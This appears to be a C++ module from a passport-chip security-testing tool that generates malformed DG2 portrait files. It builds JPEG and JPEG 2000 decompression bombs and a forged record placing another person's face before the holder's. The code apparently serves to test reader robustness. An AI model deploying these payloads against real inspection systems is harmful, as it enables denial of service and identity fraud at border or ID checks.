// Portraits that are more than they seem (ICAO 9303-10 section 4.7.2).
#include <algorithm>

#include "attacks/document/mechanisms.hpp"
#include "common/emrtd/lds.hpp"
#include "common/emrtd/tlv.hpp"

namespace proofmark::attacks::document {
namespace {

using card::ChipContent;

// 65,500 x 65,500 pixels in the frame header: 12 GB when it is decoded.
Result<ChipContent> jpeg_bomb_dg2(ChipContent content, const card::Personalisation&, RandomSource&) {
  Bytes& file = content.files[card::kEfDg2];
  PROOFMARK_TRY(const emrtd::FacialImage face, emrtd::parse_dg2(file));
  const auto image = std::search(file.begin(), file.end(), face.image.begin(), face.image.end());
  for (std::size_t at = 2; at + 9 < face.image.size();) {
    const std::uint8_t marker = face.image[at + 1];
    if (marker >= 0xC0 && marker <= 0xC2) {
      const Bytes huge{0xFF, 0xDC, 0xFF, 0xDC};
      std::copy(huge.begin(), huge.end(), image + static_cast<std::ptrdiff_t>(at) + 5);
      return content;
    }
    at += 2U + (std::size_t{face.image[at + 2]} << 8U | face.image[at + 3]);
  }
  return unusable("a frame header in DG2's JPEG");
}

Bytes word32(std::uint32_t value) {
  return {static_cast<std::uint8_t>(value >> 24U), static_cast<std::uint8_t>(value >> 16U & 0xFFU),
          static_cast<std::uint8_t>(value >> 8U & 0xFFU), static_cast<std::uint8_t>(value & 0xFFU)};
}

// A JPEG 2000 code stream (ITU-T T.800 annex A) of 120 bytes whose SIZ announces 400,000 x 400,000 pixels.
Result<ChipContent> jpeg2000_bomb_dg2(ChipContent content, const card::Personalisation&, RandomSource&) {
  const Bytes side = word32(400000);
  const Bytes zero = word32(0);
  const Bytes component{0x07, 0x01, 0x01};
  const Bytes size = concat({Bytes{0xFF, 0x51, 0x00, 0x2F, 0x00, 0x00}, side, side, zero, zero, side, side, zero, zero,
                             Bytes{0x00, 0x03}, component, component, component});
  const Bytes coding{0xFF, 0x52, 0x00, 0x0C, 0x00, 0x00, 0x00, 0x01, 0x01, 0x05, 0x04, 0x04, 0x00, 0x00};
  const Bytes quantisation{0xFF, 0x5C, 0x00, 0x04, 0x40, 0x40};
  const Bytes tile{0xFF, 0x90, 0x00, 0x0A, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x01, 0xFF, 0x93};
  const Bytes image = concat({Bytes{0xFF, 0x4F}, size, coding, quantisation, tile, Bytes(20, 0), Bytes{0xFF, 0xD9}});
  PROOFMARK_TRY(content.files[card::kEfDg2], emrtd::encode_dg2({image, emrtd::ImageFormat::jpeg2000, 413, 531}));
  return content;
}

// The facial record of a DG2 of our own encoding: from its magic number to the end.
Bytes record_of(const Bytes& file) {
  const Bytes magic{'F', 'A', 'C', 0};
  return {std::search(file.begin(), file.end(), magic.begin(), magic.end()), file.end()};
}

// Two images in one record, the presenter's before the owner's.
Result<ChipContent> second_face_dg2(ChipContent content, const card::Personalisation& input, RandomSource&) {
  if (input.other_portrait.empty()) return unusable("the portrait of another person");
  PROOFMARK_TRY(const Bytes other, card::dg2_of_jpeg(input.other_portrait));
  const Bytes one = record_of(other);
  const Bytes two = record_of(content.files[card::kEfDg2]);
  if (one.size() <= 14 || two.size() <= 14) return unusable("a record of ISO/IEC 19794-5");
  const Bytes record = concat({Bytes{'F', 'A', 'C', 0, '0', '1', '0', 0},
                               word32(static_cast<std::uint32_t>(one.size() + two.size() - 14)), Bytes{0x00, 0x02},
                               ByteView(one).subspan(14), ByteView(two).subspan(14)});
  const Bytes header = emrtd::encode_tlv(
      0xA1, concat({emrtd::encode_tlv(0x87, Bytes{0x01, 0x01}), emrtd::encode_tlv(0x88, Bytes{0x00, 0x08})}));
  const Bytes information = emrtd::encode_tlv(0x7F60, concat({header, emrtd::encode_tlv(0x5F2E, record)}));
  content.files[card::kEfDg2] =
      emrtd::encode_tlv(0x75, emrtd::encode_tlv(0x7F61, concat({emrtd::encode_integer(1), information})));
  return content;
}

}  // namespace

std::map<std::string, ContentFault> portrait_faults() {
  return {
      {"jpeg_bomb_dg2", jpeg_bomb_dg2}, {"jpeg2000_bomb_dg2", jpeg2000_bomb_dg2}, {"second_face_dg2", second_face_dg2}};
}

}  // namespace proofmark::attacks::document
